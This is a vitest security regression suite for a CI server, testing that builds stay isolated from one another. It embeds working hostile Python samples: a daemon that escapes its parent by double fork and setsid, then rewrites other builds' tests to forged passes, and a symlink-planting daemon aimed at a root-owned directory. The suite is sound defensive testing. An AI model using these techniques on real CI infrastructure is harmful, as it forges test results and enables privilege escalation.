import { randomBytes } from "node:crypto";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { latestStatus } from "../support/fake-github.js";
import { killPids, processesCarrying, running, SANDBOX_MODES, SYSTEM_PYTHON } from "../support/hostile-build.js";
import { startSandboxedServer, type SandboxedServer } from "../support/sandboxed-server.js";
import { eventually, sleep } from "../support/server-process.js";

/**
 * No process of a build outlives it, and nothing a build leaves behind can
 * touch another build or make the server (root) act on a path it chose
 * (issue 13, findings 3 and 2). The real server (`node dist/server.js`,
 * `npm run build` first), a fake GitHub, a real sshd, in each sandbox mode:
 * - a daemon started by one pull request's tests (double fork, setsid, an
 *   empty environment, exec) that looks for other builds' checkouts to
 *   rewrite their tests and fetch their pages, with and without a kill -9
 *   and a restart of the server while it runs;
 * - (user mode) a daemon that, after such a restart, recreates its build's
 *   directory with `scratch` a symlink to a root-owned directory.
 */

const APP_ID = 4848;
const INSTALLATION_ID = 83;
const DAEMON_LIFETIME_S = 90;

/** The build's directory a path lies in (its last component named pyci-build-*), in Python; shared by the daemons. */
const BUILD_ROOT_PY = `
def build_root(path):
    parts = path.split("/")
    for i in range(len(parts) - 1, 0, -1):
        if parts[i].startswith("pyci-build-"):
            return "/".join(parts[: i + 1])
    return None
`;

/** The daemon of finding 3: finds other builds' directories, rewrites their tests to pass, fetches their build pages. Notes what it did in `report`. */
function tamperingDaemon(o: { token: string; workDir: string; port: number; report: string }): string {
  return `import os, sys, time, urllib.request
TOKEN = ${JSON.stringify(o.token)}
WORK = ${JSON.stringify(o.workDir)}
PORT = ${o.port}
REPORT = ${JSON.stringify(o.report)}
FORGED = "import unittest\\n\\n\\nclass Forged(unittest.TestCase):\\n    def test_forged(self):\\n        pass  # " + TOKEN + "\\n"
${BUILD_ROOT_PY}

def note(*words):
    try:
        with open(REPORT, "a") as f:
            f.write("%.2f " % time.time() + " ".join(str(w) for w in words) + "\\n")
    except OSError:
        pass


own = build_root(bytes.fromhex(sys.argv[1]).decode())
note("START", "uid", os.getuid(), "pid", os.getpid(), "own", own)


def places():
    """Other builds' directories (CI_WORK_DIR as far as it can be listed; the working directories of processes it may look at), and where their checkouts may be."""
    found = set()
    depth = WORK.rstrip("/").count("/")
    for dirpath, dirnames, _ in os.walk(WORK):
        deeper = []
        for d in dirnames:
            path = os.path.join(dirpath, d)
            if d.startswith("pyci-build-"):
                found.update([path, os.path.join(path, "src")])
            elif path.count("/") - depth < 3:
                deeper.append(d)
        dirnames[:] = deeper
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cwd = os.readlink("/proc/%s/cwd" % pid)
            except OSError:
                continue
            if cwd.startswith(WORK + "/") and build_root(cwd):
                found.update([cwd, build_root(cwd), os.path.join(build_root(cwd), "src")])
    return {p for p in found if build_root(p) != own}


def rewrite(top):
    for dirpath, dirnames, filenames in os.walk(top):
        dirnames[:] = [d for d in dirnames if d != ".git"]
        for name in filenames:
            if not (name.startswith("test_") and name.endswith(".py")):
                continue
            path = os.path.join(dirpath, name)
            try:
                with open(path) as f:
                    if TOKEN in f.read():
                        continue
                with open(path, "w") as f:
                    f.write(FORGED)
            except OSError:
                continue
            note("REWROTE", path)


seen = set()
deadline = time.time() + ${DAEMON_LIFETIME_S}
while time.time() < deadline:
    for place in places():
        rewrite(place)
        build_id = os.path.basename(build_root(place))[len("pyci-build-"):]
        if build_id not in seen:
            seen.add(build_id)
            note("FOUND", place)
            try:
                with urllib.request.urlopen("http://127.0.0.1:%d/builds/%s" % (PORT, build_id), timeout=2) as r:
                    note("FETCHED", build_id, r.status)
            except Exception as e:
                note("FETCH-FAILED", build_id, getattr(e, "code", type(e).__name__))
    time.sleep(0.05)
note("END")
`;
}

/** The daemon of finding 2: once its build's directory is gone (the start-up sweep), recreates it with `scratch` a symlink to `victim`, again and again. */
function symlinkingDaemon(o: { token: string; victim: string; report: string }): string {
  return `import os, sys, time
TOKEN = ${JSON.stringify(o.token)}
VICTIM = ${JSON.stringify(o.victim)}
REPORT = ${JSON.stringify(o.report)}
${BUILD_ROOT_PY}

def note(*words):
    try:
        with open(REPORT, "a") as f:
            f.write(" ".join(str(w) for w in words) + "\\n")
    except OSError:
        pass


root = build_root(bytes.fromhex(sys.argv[1]).decode())
note("START", "uid", os.getuid(), "pid", os.getpid(), "root", root)
deadline = time.time() + ${DAEMON_LIFETIME_S}
while os.path.lexists(root) and time.time() < deadline:
    time.sleep(0.005)
note("GONE", root)
failed = None
while time.time() < deadline:
    scratch = os.path.join(root, "scratch")
    try:
        os.makedirs(root, exist_ok=True)
        if not os.path.islink(scratch):
            if os.path.lexists(scratch):
                os.rename(scratch, "%s.%d" % (scratch, time.time_ns()))
            os.symlink(VICTIM, scratch)
            note("PLANTED", scratch)
    except OSError as e:
        if repr(e) != failed:
            failed = repr(e)
            note("FAILED", failed)
    time.sleep(0.005)
note("END")
`;
}

/**
 * A passing test that starts `daemon` the way a process escapes its parent's
 * bookkeeping: fork, setsid, fork, chdir /, stdio to /dev/null, exec with an
 * empty environment (argv[1]: its checkout, hex-encoded, not a path in its
 * command line). It waits until the daemon runs, then sleeps `sleepS`.
 */
function daemonStarter(daemon: string, token: string, sleepS: number): string {
  return `import os, time, unittest

DAEMON = ${JSON.stringify(daemon)}
TOKEN = ${JSON.stringify(token)}
PYTHON = ${JSON.stringify(SYSTEM_PYTHON ?? "/usr/bin/python3")}


def daemons():
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as f:
                    if TOKEN.encode() in f.read():
                        found.append(int(pid))
            except OSError:
                pass
    return found


class Starter(unittest.TestCase):
    def test_starts_a_daemon(self):
        own = os.getcwd()
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    os.chdir("/")
                    null = os.open(os.devnull, os.O_RDWR)
                    for fd in (0, 1, 2):
                        os.dup2(null, fd)
                    os.closerange(3, 65536)
                    os.execve(PYTHON, [PYTHON, "-c", DAEMON, own.encode().hex()], {})
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
        deadline = time.time() + 10
        while not daemons() and time.time() < deadline:
            time.sleep(0.05)
        print("DAEMON RUNNING", daemons(), flush=True)
        time.sleep(${sleepS})
`;
}

/** An honest project with a failing test; its first test module takes a while to import (so the suite reads the second one a few seconds after it starts). */
function honestProject(tag: string): Record<string, string> {
  return {
    "test_a_setup.py": `import time\nimport unittest\n\ntime.sleep(3)  # ${tag}\n\n\nclass Setup(unittest.TestCase):\n    def test_setup(self):\n        pass\n`,
    "test_b_fails.py":
      "import unittest\n\n\nclass Honest(unittest.TestCase):\n    def test_fails(self):\n        self.assertEqual(1, 2)\n",
  };
}

const FINAL = ["success", "failure", "error"];

describe.each(SANDBOX_MODES)("builds isolated from each other, CI_SANDBOX=$mode", (sandbox) => {
  const { mode, runs } = sandbox;
  let pyci: SandboxedServer;
  let reportDir: string;
  const tokens: string[] = [];

  const newToken = () => {
    const token = `pyci-daemon-${randomBytes(12).toString("hex")}`;
    tokens.push(token);
    return token;
  };
  const completed = (sha: string) =>
    pyci.fake.checkRuns.some((r) => r.fields.head_sha === sha && r.fields.status === "completed");
  const finished = async (sha: string, timeoutMs: number) => {
    await pyci.fake.waitFor(
      () => FINAL.includes(String(latestStatus(pyci.fake.statuses, sha, "ci/test")?.body.state)) && completed(sha),
      timeoutMs,
    );
    return latestStatus(pyci.fake.statuses, sha, "ci/test")!.body;
  };
  const report = (name: string) => {
    const path = join(reportDir, name);
    return { path, text: () => (existsSync(path) ? readFileSync(path, "utf8") : "(no report)") };
  };
  const log = async (buildUrl: string, step: string) => (await fetch(`${buildUrl}/${step}.log`)).text();

  beforeAll(async () => {
    if (!runs) return;
    pyci = await startSandboxedServer(sandbox, {
      appId: APP_ID,
      installationId: INSTALLATION_ID,
      // as CI_WORK_DIR's default, the OS temp dir, is: anyone may list it and create in it
      workDirMode: 0o1777,
      env: { CI_CONCURRENCY: "1", CI_STEP_TIMEOUT: "120", CI_SHUTDOWN_GRACE: "1" },
    });
    // where the daemons note what they did (bwrap's cannot reach it)
    reportDir = mkdtempSync(join(tmpdir(), "pyci-iso-report-"));
    chmodSync(reportDir, 0o777);
  }, 60_000);

  afterAll(async () => {
    if (!runs) return;
    await pyci?.stop();
    for (const token of tokens) killPids(processesCarrying(token));
    if (reportDir) rmSync(reportDir, { recursive: true, force: true });
  });

  it.skipIf(!runs)(
    "a daemon started by one build's tests is gone when that build ends, and the next build reports honestly",
    async () => {
      const token = newToken();
      const notes = report(`${token}.log`);
      const daemon = tamperingDaemon({ token, workDir: pyci.workDir, port: pyci.port, report: notes.path });
      try {
        // A: starts the daemon, passes
        const a = await pyci.openPullRequest("iso-a", { "test_starter.py": daemonStarter(daemon, token, 1) });
        const aTest = await finished(a, 90_000);
        expect(aTest.state, JSON.stringify(aTest)).toBe("success");
        expect(await log(aTest.target_url as string, "test"), "A's daemon ran").toMatch(/DAEMON RUNNING \[\d+/);

        // once A's check run completed, nothing of it runs
        await sleep(2000);
        const left = processesCarrying(token);
        expect.soft(left, `A's daemon still runs once A's build completed; it noted:\n${notes.text()}`).toEqual([]);

        // B: an honest pull request with a failing test, after A
        const b = await pyci.openPullRequest("iso-b", honestProject(token));
        const bTest = await finished(b, 90_000);
        const noted = notes.text();
        expect.soft(noted, "A's daemon rewrote B's tests").not.toMatch(/ REWROTE /);
        expect.soft(noted, "A's daemon fetched B's build page").not.toMatch(/ FETCHED \S+ 200/);
        expect(bTest.state, `${JSON.stringify(bTest)}; A's daemon noted:\n${noted}`).toBe("failure");
        expect(bTest.description).toBe("1 failure in 2 tests");
      } finally {
        killPids(processesCarrying(token));
      }
    },
    240_000,
  );

  it.skipIf(!runs)(
    "a daemon alive when the server is killed (kill -9) is gone after the restart, and the next build reports honestly",
    async () => {
      const token = newToken();
      const notes = report(`${token}.log`);
      const daemon = tamperingDaemon({ token, workDir: pyci.workDir, port: pyci.port, report: notes.path });
      try {
        // A: starts the daemon, then sleeps: the server is killed mid-build
        const a = await pyci.openPullRequest("iso-restart-a", { "test_starter.py": daemonStarter(daemon, token, 10) });
        await eventually(() => processesCarrying(token).length > 0, 60_000, "A's daemon runs");
        const before = processesCarrying(token);
        await pyci.server.kill9();

        // started again on the same data and work dirs
        await pyci.restart();
        await sleep(2000);
        expect
          .soft(before.filter(running), `A's daemon survived the kill -9 and the start-up; it noted:\n${notes.text()}`)
          .toEqual([]);

        // A runs again (it starts another daemon): once it completed, nothing of it runs
        const aTest = await finished(a, 120_000);
        expect(aTest.state, JSON.stringify(aTest)).toBe("success");
        await sleep(2000);
        expect
          .soft(processesCarrying(token), `A's daemons run once A's re-run completed; they noted:\n${notes.text()}`)
          .toEqual([]);

        // B: honest
        const b = await pyci.openPullRequest("iso-restart-b", honestProject(token));
        const bTest = await finished(b, 90_000);
        const noted = notes.text();
        expect.soft(noted, "A's daemons rewrote B's tests").not.toMatch(/ REWROTE /);
        expect.soft(noted, "A's daemons fetched B's build page").not.toMatch(/ FETCHED \S+ 200/);
        expect(bTest.state, `${JSON.stringify(bTest)}; A's daemons noted:\n${noted}`).toBe("failure");
        expect(bTest.description).toBe("1 failure in 2 tests");
      } finally {
        killPids(processesCarrying(token));
      }
    },
    300_000,
  );

  it.skipIf(!runs || mode !== "user")(
    "a build directory recreated with a symlinked scratch after a kill -9 and a restart: root's directory stays root's",
    async () => {
      const token = newToken();
      const notes = report(`${token}.log`);
      // root's directory (0755) with a root-only file in it
      const victimParent = mkdtempSync(join(tmpdir(), "pyci-iso-victim-"));
      const victim = join(victimParent, "victim");
      mkdirSync(victim);
      chmodSync(victim, 0o755);
      const secret = `victim-${randomBytes(24).toString("hex")}\n`;
      writeFileSync(join(victim, "secret"), secret, { mode: 0o600 });
      const was = { dir: statSync(victim), file: statSync(join(victim, "secret")) };
      const daemon = symlinkingDaemon({ token, victim, report: notes.path });
      try {
        const a = await pyci.openPullRequest("iso-scratch", { "test_starter.py": daemonStarter(daemon, token, 10) });
        await eventually(() => processesCarrying(token).length > 0, 60_000, "A's daemon runs");
        await pyci.server.kill9();
        await pyci.restart();
        // the build interrupted by the kill runs again, to its end
        const aTest = await finished(a, 120_000);
        await sleep(1000);

        const dir = statSync(victim);
        const file = statSync(join(victim, "secret"));
        const context = `the re-run's ci/test: ${JSON.stringify(aTest)}; the daemon noted:\n${notes.text()}`;
        expect
          .soft({ uid: dir.uid, gid: dir.gid, mode: dir.mode.toString(8) }, `the victim directory; ${context}`)
          .toEqual({ uid: was.dir.uid, gid: was.dir.gid, mode: was.dir.mode.toString(8) });
        expect
          .soft({ uid: file.uid, gid: file.gid, mode: file.mode.toString(8) }, `the victim's file; ${context}`)
          .toEqual({ uid: was.file.uid, gid: was.file.gid, mode: was.file.mode.toString(8) });
        expect.soft(readFileSync(join(victim, "secret"), "utf8")).toBe(secret);
        expect(readdirSync(victim).sort(), `what pyci created in the victim directory; ${context}`).toEqual(["secret"]);
      } finally {
        killPids(processesCarrying(token));
        rmSync(victimParent, { recursive: true, force: true });
      }
    },
    300_000,
  );
});
